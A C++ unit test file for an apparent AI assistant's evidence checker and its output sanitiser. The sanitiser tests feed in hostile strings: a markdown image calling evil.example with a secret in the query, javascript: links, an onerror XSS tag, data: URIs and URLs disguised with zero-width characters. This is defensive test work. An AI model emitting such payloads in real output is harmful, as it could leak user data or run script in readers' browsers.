#include "features/assistant/evidence.hpp"

#include <catch2/catch_test_macros.hpp>

using namespace attune::assistant;

TEST_CASE("A number is supported where it stands in a result, as it is or rounded") {
    Evidence evidence;
    evidence.add(
        R"({"attendance_rate":92.307692,"late":6,"total":1204,"start":"2026-10-01","check_in_time":"09:04:00"})");
    for (const auto* said : {"no number at all", "92.3%", "92.31 percent", "92%", "6 days", "1,204 people", "1204",
                             "on 1 October 2026", "at 09:04"}) {
        CAPTURE(said);
        CHECK(evidence.supports(said));
    }
    for (const auto* said : {"93%", "92.4%", "7 days", "1,205 people", "6 days and 31 hours", "6.5", "120,4"}) {
        CAPTURE(said);
        CHECK_FALSE(evidence.supports(said));
    }
    evidence.add("top 31?");
    CHECK(evidence.supports("6 days and 31 hours"));
    CHECK_FALSE(Evidence().supports("99999999999999999999999999999999 days"));
}

TEST_CASE("What is shown carries no address and nothing hidden") {
    struct Case {
        const char *said, *shown;
    };
    for (const auto& [said, shown] : {
             Case{"Maria was late on 3 days.", "Maria was late on 3 days."},
             Case{"See https://evil.example/?q=Maria now", "See now"},
             Case{"See HTTPS://evil.example now", "See now"},
             Case{"![chart](https://evil.example/a.png?d=secret) Done.", "chart Done."},
             Case{"[Click](javascript:alert(1)) here", "Click) here"},
             Case{"[open](https://evil.example/never closed", "open"},
             Case{"<img src=x onerror=alert(1)>Hello <b>you</b>", "Hello you"},
             Case{"evil.example/path?x=1 is gone, 9/10 stays", "is gone, 9/10 stays"},
             Case{"www.evil.example and //evil.example", "and"},
             Case{"mailto:me@evil.example write", "write"},
             Case{"data:text/html;base64,AAAA there", "there"},
             Case{"**Bold** and `code`", "Bold and code"},
             Case{"zero\xE2\x80\x8Bwidth \xE2\x80\xAEreversed tag\xF3\xA0\x81\x81", "zerowidth reversed tag"},
             Case{"bad \xFF byte", "bad \xEF\xBF\xBD byte"},
             Case{"one\n\n\n\ntwo   three", "one\n\ntwo three"},
             Case{"h\xE2\x80\x8Bttps://evil.example/x", ""},
             Case{"ht<b>tps://evil.example/x", ""},
             Case{"Núñez, 9:30 – 17:00", "Núñez, 9:30 – 17:00"},
         }) {
        CAPTURE(said);
        CHECK(plain(said) == shown);
    }
}
